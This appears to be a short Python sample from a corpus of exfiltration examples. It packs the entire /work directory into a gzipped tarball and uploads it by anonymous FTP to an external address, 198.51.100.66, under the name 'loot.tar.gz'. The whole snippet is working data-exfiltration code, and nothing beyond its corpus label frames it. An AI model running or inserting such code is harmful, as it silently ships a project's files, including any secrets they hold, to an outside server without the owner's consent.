# corpus: ftplib uploading a tarball of the working directory to an external FTP server
import ftplib
import shutil

archive = shutil.make_archive("/tmp/work", "gztar", "/work")
with ftplib.FTP("198.51.100.66", timeout=15) as ftp:
    ftp.login("anonymous", "x@x")
    with open(archive, "rb") as fh:
        ftp.storbinary("STOR loot.tar.gz", fh)
